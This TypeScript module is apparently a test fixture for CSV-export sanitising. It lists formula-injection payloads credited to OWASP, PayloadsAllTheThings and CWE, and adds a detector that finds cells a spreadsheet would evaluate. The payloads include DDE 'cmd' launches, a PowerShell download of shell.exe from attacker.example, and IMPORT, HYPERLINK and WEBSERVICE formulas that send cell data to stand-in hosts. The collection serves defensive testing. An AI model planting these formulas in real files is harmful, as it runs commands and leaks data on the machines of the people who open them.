/** A text that does something in a spreadsheet, and who published it. */
export interface Payload {
  readonly text: string;
  readonly source: string;
}

const owasp = 'OWASP, CSV Injection, https://owasp.org/www-community/attacks/CSV_Injection';
const list = 'PayloadsAllTheThings, CSV Injection, https://github.com/swisskyrepo/PayloadsAllTheThings (MIT)';
const weakness = 'CWE-1236, https://cwe.mitre.org/data/definitions/1236.html, and OWASP ASVS 5.0, requirement 1.2.10';

const from = (source: string, texts: readonly string[]): Payload[] => texts.map((text) => ({ text, source }));

/** The published lists, payload by payload; hosts are changed to names that belong to nobody (RFC 2606). */
export const payloads: readonly Payload[] = [
  // The characters that no cell may begin with, each before something that a spreadsheet works out; then its two examples.
  ...from(owasp, ['=1+2', '+1+2', '-1+2', '@SUM(1+2)', '\t=1+2', '\r=1+2', '\n=1+2', '=1+2";=1+2', `=1+2'" ;,=1+2`]),
  // "Attackers could use this to start a new cell": separators and quotes in the middle of what was typed.
  ...from(owasp, [
    'a;=1+2',
    'a,=1+2',
    'a\t=1+2',
    'a";=1+2',
    'a",=1+2',
    "a';=1+2",
    'a\r\n=1+2',
    'a\n=1+2',
    'a;"=1+2"',
    ';=1+2',
    '",=1+2,"',
    '";=1+2;"',
  ]),
  ...from(list, [
    'DDE ("cmd";"/C calc";"!A0")A0',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=2+5+cmd|' /C calc'!A0",
    "=cmd|' /C calc'!'A1'",
    "=cmd|'/C powershell IEX(wget attacker.example/shell.exe)'!A0",
    `=AAAA+BBBB-CCCC&"Hello"/12345&cmd|'/c calc.exe'!A`,
    "=cmd|'/c calc.exe'!A*cmd|'/c calc.exe'!A",
    "=         cmd|'/c calc.exe'!A",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "=rundll321234567890abcdefghijklmnopqrstuvwxyz|'URL.dll,OpenURL calc.exe'!A",
    "=    C    m D                    |'/   c       c  al  c      .  e                  x       e  '   !   A",
    "=\u0000C\u0000m\u0000D|\u0000'/c calc'!A",
    '=IMPORTXML("http://collaborator.example/csv", "//a/@href")',
    '=IMPORTRANGE("http://collaborator.example/csv", "A1")',
    '=IMPORTHTML("http://collaborator.example/csv", "table", 1)',
    '=IMPORTFEED("http://collaborator.example/csv")',
    '=IMPORTDATA("http://collaborator.example/csv")',
    "\u2013cmd|' /C calc'!A0",
  ]),
  ...from(weakness, ['=HYPERLINK("http://evil.example?leak="&A1&A2,"Error: press here")', '\u0000=1+1']),
  // Full-width signs are signs to some readers; blanks before a sign are taken off by some.
  ...from('common practice, no published source', [
    '\uff1d1+1',
    '\ufe661+1',
    '\ufe621+1',
    '\u22121+1',
    '\uff0b1+1',
    '\uff0d1+1',
    '\uff20SUM(1+1)',
    ' =1+1',
    '\u00a0=1+1',
    "-1+cmd|' /C calc'!A0",
    '=WEBSERVICE("http://evil.example/"&A1)',
    '+44 20 7946 0000',
  ]),
];

const dangerous = /^[\s"]*[=+\-@\0\u2013\u2212\ufe62\ufe63\ufe66\ufe6b\uff0b\uff0d\uff1d\uff20]/;
const number = /^[+-]?(\d+\.?\d*|\.\d+)(e[+-]?\d+)?$/i;

/** Cells as spreadsheets read them: a quote counts where a cell begins with it; what stands behind the closing one belongs to the cell. */
function cellsOf(csv: string, separator: string): string[] {
  const cells: string[] = [];
  let at = 0;
  while (at < csv.length) {
    let cell = '';
    if (csv[at] === '"') {
      let end = at + 1;
      while (end < csv.length && !(csv[end] === '"' && csv[end + 1] !== '"')) end += csv[end] === '"' ? 2 : 1;
      cell = csv.slice(at + 1, end).replaceAll('""', '"');
      at = Math.min(end + 1, csv.length);
    }
    while (at < csv.length && csv[at] !== separator && csv[at] !== '\r' && csv[at] !== '\n') cell += csv[at++];
    cells.push(cell);
    if (csv[at] === '\r' && csv[at + 1] === '\n') at++;
    at++;
  }
  return cells;
}

/** Cells of a file that a spreadsheet would work out, whichever separator it takes, and with quotes as plain signs where they are not its own. */
export function formulasIn(csv: string): string[] {
  const cells = [...[',', ';', '\t'].flatMap((each) => cellsOf(csv, each)), ...csv.split(/[;\r\n]/), ...csv.split(/[\t\r\n]/)];
  return cells.filter((cell) => dangerous.test(cell) && !number.test(cell));
}
